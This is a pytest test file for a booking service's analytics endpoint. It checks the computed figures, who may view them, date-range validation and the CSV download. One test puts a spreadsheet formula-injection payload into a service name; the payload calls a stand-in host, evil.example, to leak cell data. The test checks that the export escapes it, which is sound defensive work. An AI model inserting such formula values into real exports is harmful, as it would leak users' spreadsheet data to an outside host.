"""Analytics through the real engine: figures, who may see them, and the download."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any

import pytest

from tests.http.api import API, START, HandClock, Shop, token
from turnero.http.wire.spreadsheet import csv_of

EVENING = datetime.fromisoformat("2026-12-01T20:00:00-03:00")
DAY = {"from_": "2026-12-01", "to": "2026-12-01"}


def address(shop: Shop) -> str:
    return f"{API}/bookings/advanced/analytics/{shop.provider_id}"


async def figures(shop: Shop, *, by: str | None = None, **query: str) -> Any:
    reply = await shop.client.get(address(shop), by=by or shop.owner, **{**DAY, **query})
    assert reply.status == 200, reply
    return reply.body


async def a_day(shop: Shop, clock: HandClock) -> None:
    """Let a day go by on which one came and was happy, one did not come, one cancelled and one is forgotten."""
    came, missed, cancelled, _ = [
        await shop.booked(f"2026-12-01T{time}:00-03:00") for time in ("10:00", "10:30", "12:00", "15:00")
    ]
    clock.set(EVENING)
    for booking, what in ((came, "complete"), (missed, "no-show"), (cancelled, "cancel")):
        assert (await shop.client.post(f"{API}/bookings/{booking['id']}/{what}", by=shop.owner)).status == 200
    rated = await shop.client.post(f"{API}/bookings/{came['id']}/rating", {"stars": 4}, by=shop.customer)
    assert rated.status == 200


async def test_a_day_is_told_in_figures(shop: Shop, clock: HandClock) -> None:
    await a_day(shop, clock)

    told = await figures(shop)

    assert told["totals"] == {
        "created": 4,
        "pending": 0,
        "confirmed": 1,
        "cancelled": 1,
        "completed": 1,
        "noShow": 1,
    }
    pesos = [{"amount": 1_200_000, "currency": "ARS"}]
    assert told["revenue"] == pesos
    assert told["services"] == [{"serviceId": shop.service_id, "name": "Corte", "count": 3, "revenue": pesos}]
    assert told["busyHours"] == [{"day": "TU", "hour": 10, "count": 2}, {"day": "TU", "hour": 15, "count": 1}]
    assert told["rating"] == {"average": 4.0, "count": 1}
    assert told["utilisation"] == round(1.5 / 8, 4)
    assert told["noShowRate"] == 0.5
    assert (told["from"], told["to"], told["timeZone"]) == (
        "2026-12-01",
        "2026-12-01",
        "America/Argentina/Buenos_Aires",
    )


async def test_a_day_without_opening_hours_has_no_utilisation(shop: Shop) -> None:
    told = await figures(shop, from_="2026-12-05", to="2026-12-06")

    assert (told["utilisation"], told["noShowRate"], told["rating"]["average"]) == (None, None, None)
    assert (told["revenue"], told["services"], told["busyHours"]) == ([], [], [])


async def test_both_dates_count_and_are_the_providers_own(shop: Shop) -> None:
    reply = await shop.client.call(
        "PATCH", f"{API}/providers/{shop.provider_id}", {"timeZone": "Pacific/Auckland"}, by=shop.owner
    )
    assert reply.status == 200
    await shop.client.made(
        f"{API}/bookings",
        shop.walk_in("2026-12-02T00:30:00+13:00", override=True),
        by=shop.owner,
    )

    assert (await figures(shop))["totals"]["created"] == 0
    assert (await figures(shop, to="2026-12-02"))["busyHours"] == [{"day": "WE", "hour": 0, "count": 1}]


async def test_staff_and_the_businesss_integrators_may_look(shop: Shop) -> None:
    key = await shop.client.made(f"{API}/api-keys", {"businessId": shop.business_id, "name": "Panel"}, by=shop.owner)

    for who in (shop.admin, shop.owner, shop.provider, key["secret"]):
        assert (await figures(shop, by=who))["totals"]["created"] == 0


async def test_nobody_else_may(shop: Shop) -> None:
    colleague = token("provider", "prv_other", shop.business_id)
    stranger = token("owner", "x", "biz_x")

    for who in (shop.customer, colleague, stranger):
        reply = await shop.client.get(address(shop), by=who, **DAY)
        assert (reply.status, reply.code) == (403, "forbidden")
    assert (await shop.client.get(address(shop), **DAY)).status == 401


async def test_of_nobodys_calendar_there_are_no_figures(shop: Shop) -> None:
    reply = await shop.client.get(f"{API}/bookings/advanced/analytics/prv_none", by=shop.admin, **DAY)

    assert reply.status == 404


@pytest.mark.parametrize(
    ("first", "last", "wrong"),
    [
        ("2026-12-02", "2026-12-01", "$.to"),
        ("2026-01-01", "2027-01-02", "$.to"),
        ("0001-01-01", "0001-01-01", "$.from"),
        ("9999-12-31", "9999-12-31", "$.from"),
        ("yesterday", "2026-12-01", "$.from"),
    ],
)
async def test_a_range_that_is_none_is_refused(shop: Shop, first: str, last: str, wrong: str) -> None:
    reply = await shop.client.get(address(shop), by=shop.owner, from_=first, to=last)

    assert (reply.status, reply.wrong) == (422, [wrong])


async def test_a_leap_year_is_not_too_long(shop: Shop) -> None:
    assert (await figures(shop, from_="2028-01-01", to="2028-12-31"))["totals"]["created"] == 0


# --- The download -------------------------------------------------------------------------------------------------


def rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


async def test_who_prefers_csv_gets_the_same_figures_as_a_file(shop: Shop, clock: HandClock) -> None:
    await a_day(shop, clock)

    reply = await shop.client.call(
        "GET",
        f"{address(shop)}?from=2026-12-01&to=2026-12-01",
        by=shop.owner,
        headers={"Accept": "text/csv, application/json;q=0.5"},
    )

    assert reply.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    name = f"analytics_{shop.provider_id}_2026-12-01_2026-12-01.csv"
    assert reply.headers["Content-Disposition"] == f'attachment; filename="{name}"'
    assert reply.headers["Vary"] == "Accept"
    values = {row["figure"]: row for row in rows(reply.body)}
    assert values["totals.noShow"]["value"] == "1"
    assert (values["revenue"]["value"], values["revenue"]["currency"]) == ("1200000", "ARS")
    assert (values["services.count"]["service"], values["services.count"]["value"]) == ("Corte", "3")
    assert values["noShowRate"]["value"] == "0.5"
    busy = [(row["day"], row["hour"], row["value"]) for row in rows(reply.body) if row["figure"] == "busyHours.count"]
    assert busy == [("TU", "10", "2"), ("TU", "15", "1")]


async def test_a_link_says_which_format_it_wants(shop: Shop) -> None:
    query = {"from_": "2026-12-05", "to": "2026-12-05"}

    table = await shop.client.get(address(shop), by=shop.owner, format="csv", **query)
    told = await shop.client.get(address(shop), by=shop.owner, format="json", **query)
    nonsense = await shop.client.get(address(shop), by=shop.owner, format="xlsx", **query)

    assert {row["figure"]: row["value"] for row in rows(table.body)}["utilisation"] == ""
    assert told.body["utilisation"] is None
    assert (nonsense.status, nonsense.wrong) == (422, ["$.format"])


async def test_a_service_called_like_a_formula_stays_a_name(shop: Shop) -> None:
    named = '=HYPERLINK("http://evil.example/?"&A1,"Corte ñandú")'
    service = await shop.client.made(
        f"{API}/services", {"businessId": shop.business_id, "name": named, "durationMinutes": 30}, by=shop.owner
    )
    change = {"serviceIds": [shop.service_id, service["id"]]}
    await shop.client.call("PATCH", f"{API}/providers/{shop.provider_id}", change, by=shop.owner)
    await shop.client.made(f"{API}/bookings", {**shop.wish(START), "serviceId": service["id"]}, by=shop.customer)

    told = await figures(shop)
    table = await shop.client.get(address(shop), by=shop.owner, format="csv", **DAY)

    assert told["services"][0]["name"] == named
    assert {row["service"] for row in rows(table.body)} == {"", f"'{named}"}


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(begin: str) -> None:
    table = csv_of(["name", "number"], [[f"{begin}1+1", -1], [f"a{begin}1", None]])

    assert list(csv.reader(io.StringIO(table.decode(), newline=""))) == [
        ["name", "number"],
        [f"'{begin}1+1", "-1"],
        [f"a{begin}1", ""],
    ]
